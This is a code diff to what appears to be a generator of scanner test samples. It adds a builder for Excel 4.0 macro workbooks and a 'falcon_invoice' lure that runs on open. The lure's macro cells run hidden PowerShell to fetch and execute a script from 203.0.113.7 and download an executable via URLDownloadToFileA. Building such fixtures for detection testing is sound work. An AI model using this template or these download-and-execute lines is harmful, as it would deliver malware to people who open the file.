@@ -178,6 +178,33 @@ def onenote(files: list[bytes]) -> bytes:
     return bytes(out)
 
 
+def xlm_workbook(formulas: list[str], auto_open: bool) -> bytes:
+    """An .xlsm whose Excel 4.0 macro sheet "Macro1" holds `formulas` in column A, named
+    `_xlnm.Auto_Open` when `auto_open` (how XLM lures run on open)."""
+    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+    rel = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
+    names = ('<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName>'
+             "</definedNames>") if auto_open else ""
+    rows = "".join(f'<row r="{n}"><c r="A{n}"><f>{f.replace("&", "&amp;").replace("<", "&lt;")}</f></c></row>'
+                   for n, f in enumerate(formulas, 1))
+    return make_zip([
+        ("[Content_Types].xml", ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org'
+                                 '/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
+                                 '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.'
+                                 'macroEnabled.main+xml"/><Override PartName="/xl/macrosheets/sheet1.xml" ContentType='
+                                 '"application/vnd.ms-excel.macrosheet+xml"/></Types>').encode()),
+        ("xl/workbook.xml", (f'<?xml version="1.0" encoding="UTF-8"?><workbook {ns} {rel}><sheets>'
+                             f'<sheet name="Macro1" sheetId="1" r:id="rId1"/></sheets>{names}</workbook>').encode()),
+        ("xl/_rels/workbook.xml.rels", ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
+                                        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type='
+                                        '"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target='
+                                        '"macrosheets/sheet1.xml"/></Relationships>').encode()),
+        ("xl/macrosheets/sheet1.xml", (f'<?xml version="1.0" encoding="UTF-8"?><xm:macrosheet {ns} '
+                                       'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
+                                       f"<sheetData>{rows}</sheetData></xm:macrosheet>").encode()),
+    ])
+
+
 def build() -> dict[str, bytes]:
     s: dict[str, bytes] = {}
     hotfix_rar = rar5([("hotfix/install.ps1", CRADLE), ("hotfix/README.txt", README)])
@@ -209,6 +236,12 @@ def build() -> dict[str, bytes]:
     s["lures/containers/falcon_hotfix_notes.one"] = falcon_one
     s["clean/containers/team_meeting_notes.one"] = onenote([PIXEL_PNG, DRIVER_INF])
     s["bad/containers/truncated.one"] = falcon_one[: len(falcon_one) - 200]
+    s["lures/containers/falcon_invoice_xlm.xlsm"] = xlm_workbook([
+        'EXEC("powershell -w hidden -c ""iwr http://203.0.113.7/falcon/fix.ps1 | iex""")',
+        'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://203.0.113.7/f.exe","C:\\Users\\Public\\f.exe",0,0)',
+        "HALT()"], auto_open=True)
+    s["clean/containers/budget_macro_sheet.xlsm"] = xlm_workbook(
+        ['SELECT("R1C1")', 'FORMULA("Q3 budget")', "RETURN()"], auto_open=False)
     s["bad/containers/truncated.rar"] = hotfix_rar[: len(hotfix_rar) // 2]
     s["bad/containers/truncated.cab"] = hotfix_cab[:60]
     return s
